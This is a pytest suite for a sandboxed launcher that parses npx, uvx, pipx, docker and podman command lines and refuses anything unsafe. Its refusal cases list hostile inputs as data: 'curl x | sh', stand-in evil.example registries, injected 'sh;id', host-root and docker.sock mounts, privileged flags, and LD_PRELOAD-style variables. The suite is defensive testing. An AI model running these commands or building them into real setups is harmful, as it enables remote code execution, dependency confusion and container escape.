"""Command lines of launchers: what is understood, and that anything else is refused rather than guessed (SC-03,
SC-07)."""

import pytest

from limen.sandbox.launch import Image, Local, NotLaunchable, Package, compare, environment, read

DIGEST = "0" * 64


def package(line: str) -> Package:
    form = read(*split(line))
    assert isinstance(form, Package)
    return form


def split(line: str) -> tuple[str, list[str]]:
    command, *args = line.split(" ")
    return command, args


@pytest.mark.parametrize(
    ("line", "specs", "command", "rest"),
    [
        ("npx -y @scope/pkg@1.2.3 /data --flag", ("@scope/pkg@1.2.3",), "", ("/data", "--flag")),
        ("npx pkg", ("pkg",), "", ()),
        ("npx -y pkg@latest -y -c x", ("pkg@latest",), "", ("-y", "-c", "x")),
        ("npx --yes --package=a@1.0.0 -p b -- cmd -p c", ("a@1.0.0", "b"), "cmd", ("-p", "c")),
        ("/usr/bin/npx -y pkg@^1.2", ("pkg@^1.2",), "", ()),
        ("npm exec -- pkg@1.0.0", ("pkg@1.0.0",), "", ()),
        (
            "uvx mcp-server-time --local-timezone=UTC",
            ("mcp-server-time",),
            "mcp-server-time",
            ("--local-timezone=UTC",),
        ),
        ("uvx mcp-server-git@1.0 -r x", ("mcp-server-git==1.0",), "mcp-server-git", ("-r", "x")),
        ("uvx ruff@latest", ("ruff",), "ruff", ()),
        ("uvx --from pkg[cli]==2.0 --with extra cmd a", ("pkg[cli]==2.0", "extra"), "cmd", ("a",)),
        ("uv tool run --from=pkg>=1,<2 cmd", ("pkg>=1,<2",), "cmd", ()),
        ("pipx run pkg==1.0 x", ("pkg==1.0",), "pkg", ("x",)),
        ("pipx run --spec pkg cmd", ("pkg",), "cmd", ()),
    ],
)
def test_launchers_are_read_as_they_read_themselves(
    line: str, specs: tuple[str, ...], command: str, rest: tuple[str, ...]
) -> None:
    form = package(line)
    assert (form.specs, form.command, form.rest) == (specs, command, rest)


@pytest.mark.parametrize(
    "line",
    [
        "npx -c id", "npx --call=id", "npx -y --node-options=--require=/x pkg", "npx -n --require=x pkg", "npx",
        "npx --registry=https://evil.example pkg", "npx --userconfig /x pkg", "npx --prefix /x pkg", "npx -yq pkg",
        "npx --script-shell=/x pkg", "npx --ignore-scripts=false pkg", "npx -y git+https://h.example/x.git",
        "npx -y user/repo", "npx -y github:user/repo", "npx -y https://h.example/x.tgz", "npx -y ./x",
        "npx -y file:x", "npx -y a@npm:b@1.0.0", "npx -p a -p", "npx --package=a sh;id", "npx -p a ../../bin/sh",
        "npm install x", "npm run x", "npm exec -c id", "npx -y --allow-scripts=x pkg", "npx --workspace=x pkg",
        "npx --yes=maybe pkg", "uvx --index-url https://evil.example/ x",
        "uvx --extra-index-url=https://evil.example/ x", "uvx --index=x y", "uvx --default-index x y", "uvx -i x y",
        "uvx --find-links /x y", "uvx --python /tmp/python x", "uvx", "uvx --from git+https://h.example/x cmd",
        "uvx --from ./x cmd", "uvx --from x@https://h.example/x.whl cmd", "uvx --with-editable . x",
        "uvx --with-requirements r.txt x", "uvx --from a --from b cmd", "uvx --env-file .env x",
        "uvx --from a ../cmd", "uv run server.py", "uv run --with x y", "uv pip install x", "pipx install x",
        "pipx run --index-url=x y", "pipx run --pip-args=-ix y", "pipx run https://h.example/x.py", "pipx run ./x.py",
    ],
)  # fmt: skip
def test_options_and_sources_that_are_not_understood_are_refused(line: str) -> None:
    """Dependency confusion and code from elsewhere (SC-01, SC-09): another index, repository, address, prefix or
    shell."""
    with pytest.raises(NotLaunchable):
        read(*split(line))


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("sh", ["-c", "curl x | sh"]), ("/bin/bash", ["-lc", "npx x"]), ("bash", []), ("cmd", ["/c", "npx x"][:0]),
        ("powershell", ["-Command", "x"]), ("env", ["A=b", "npx", "x"]), ("sudo", ["x"]), ("bunx", ["x"]),
        ("deno", ["run", "npm:x"]), ("pnpm", ["dlx", "x"]), ("curl", ["x"]), ("python3", ["-m", "a b"]),
        ("go", ["run", "x@latest"]),
    ],
)  # fmt: skip
def test_shell_lines_and_programs_that_start_others_are_refused(command: str, args: list[str]) -> None:
    """SC-07."""
    with pytest.raises(NotLaunchable):
        read(command, args)


def test_an_option_that_may_hold_a_secret_is_not_quoted() -> None:
    with pytest.raises(NotLaunchable) as caught:
        read("npx", ["-ps3cr3t", "x"])
    assert "s3cr3t" not in str(caught.value)
    with pytest.raises(NotLaunchable) as caught:
        read("npx", ["--token=s3cr3t", "x"])
    assert "s3cr3t" not in str(caught.value)


@pytest.mark.parametrize(
    ("line", "kind", "subject"),
    [
        ("/usr/local/bin/server --x", "program", ""), ("python3 -u server.py -c", "script", "server.py"),
        ("/venv/bin/python3.11 -m server --x", "module", "server"),
        ("node --no-warnings dist/x.js", "script", "dist/x.js"), ("bash run.sh", "script", "run.sh"),
    ],
)  # fmt: skip
def test_programs_of_this_disk(line: str, kind: str, subject: str) -> None:
    form = read(*split(line))
    assert isinstance(form, Local)
    assert (form.kind, form.subject, form.loose) == (kind, subject, "")
    assert form.argv == tuple(line.split(" "))


@pytest.mark.parametrize("line", ["node -r x.js y.js", "node --import=x y.js", "python -c pass", "python", "node -e x"])
def test_what_an_option_decides_cannot_be_pinned(line: str) -> None:
    form = read(*split(line))
    assert isinstance(form, Local)
    assert form.loose


def test_images_run_by_digest_and_are_never_pulled() -> None:
    image = f"ghcr.io/org/server:1.0@sha256:{DIGEST}"
    form = read(
        "docker", ["run", "-i", "--rm", "-e", "TOKEN", "--network=none", "-v", "/data:/data:ro", image, "--pull", "x"]
    )
    assert form == Image(
        "docker",
        f"sha256-{DIGEST}",
        (
            "run",
            "--pull=never",
            "-i",
            "--rm",
            "-e",
            "TOKEN",
            "--network=none",
            "-v",
            "/data:/data:ro",
            image,
            "--pull",
            "x",
        ),
        f"ghcr.io/org/server@sha256:{DIGEST}",
        ("", "--pull", "x"),
    )


@pytest.mark.parametrize(
    "line",
    [
        "run -i org/server", "run -i org/server:latest", "run --privileged {}", "run --pull=always {}",
        "run --network host {}", "run --pid=host {}", "run -v /var/run/docker.sock:/s {}", "run -v /:/host {}",
        "run -v /a/../..:/x {}", "run --mount type=bind,source=/,target=/x {}",
        "run --mount type=bind,src=/run/podman/podman.sock,target=/x {}", "run --security-opt seccomp=unconfined {}",
        "run --net=container:x {}", "run --cap-add ALL {}", "exec x", "run -i", "run --device /dev/sda {}",
        "run -it {}", "run -v", "pull {}", "run --runtime x {}",
    ],
)  # fmt: skip
@pytest.mark.parametrize("engine", ["docker", "podman"])
def test_images_without_digest_or_walls_are_refused(engine: str, line: str) -> None:
    with pytest.raises(NotLaunchable):
        read(engine, line.format(f"org/server@sha256:{DIGEST}").split(" "))


@pytest.mark.parametrize(
    "name",
    ["NODE_OPTIONS", "LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "PYTHONSTARTUP", "node_options"],
)
@pytest.mark.parametrize("line", ["npx -y pkg", "uvx pkg", "/usr/bin/server", "python3 x.py"])
def test_variables_that_load_other_code_are_refused(name: str, line: str) -> None:
    with pytest.raises(NotLaunchable, match="would put other code"):
        environment(read(*split(line)), {"OTHER": "1", name: "--require /tmp/x.js"}, pinned=False)


@pytest.mark.parametrize(
    "name", ["PYTHONPATH", "NODE_PATH", "NPM_CONFIG_REGISTRY", "PIP_INDEX_URL", "UV_INDEX", "PYTHONHOME"]
)
def test_variables_that_lead_a_verified_program_elsewhere_are_refused(name: str) -> None:
    for line in ("npx -y pkg", "uvx pkg"):
        with pytest.raises(NotLaunchable, match=name):
            environment(read(*split(line)), {name: "x"}, pinned=False)
    with pytest.raises(NotLaunchable, match=name):
        environment(read("python3", ["x.py"]), {name: "x"}, pinned=True)
    environment(read("python3", ["x.py"]), {name: "x"}, pinned=False)


def test_ordinary_variables_pass() -> None:
    declared = {
        "API_KEY": "x",
        "PATH": "/usr/bin",
        "ENV": "prod",
        "NODE_OPTIONS": "--max-old-space-size=512",
        "HOME": "/h",
    }
    for line in ("npx -y pkg", "uvx pkg", "/usr/bin/server"):
        environment(read(*split(line)), declared, pinned=True)


def test_exact_versions_are_told_from_floating_ones() -> None:
    exact = ("npx a@1.2.3", "npx @s/a@1.0.0-rc.1", "uvx a==1.0", "uvx a@1.0", "pipx run a===1.0")
    floating = (
        "npx a",
        "npx a@latest",
        "npx a@^1.0.0",
        "npx a@1",
        "npx a@1.x",
        "uvx a",
        "uvx a>=1",
        "uvx a==1.*",
        "uvx a==1,<2",
    )
    assert all(package(line).pinned for line in exact)
    assert not any(package(line).pinned for line in floating)
    assert not package("npx /x/a-1.0.0.tgz").pinned


def test_the_same_packages_share_a_record_whatever_is_run_of_them() -> None:
    assert package("npx -y a@1.0.0 x").request == package("npm exec a@1.0.0").request
    assert package("npx a@1.0.0").request != package("npx a@1.0.1").request
    assert package("npx a").request != package("uvx a").request


def test_an_artifact_is_the_one_named_or_refused() -> None:
    compare("sha256-aa", {})
    compare("sha256-aa", {"security.artifact": "sha256-aa", "the lock": "sha256-aa"})
    with pytest.raises(NotLaunchable, match="the lock"):
        compare("sha256-aa", {"security.artifact": "sha256-aa", "the lock": "sha256-bb"})
    with pytest.raises(NotLaunchable):
        compare("", {"the lock": "sha256-bb"})
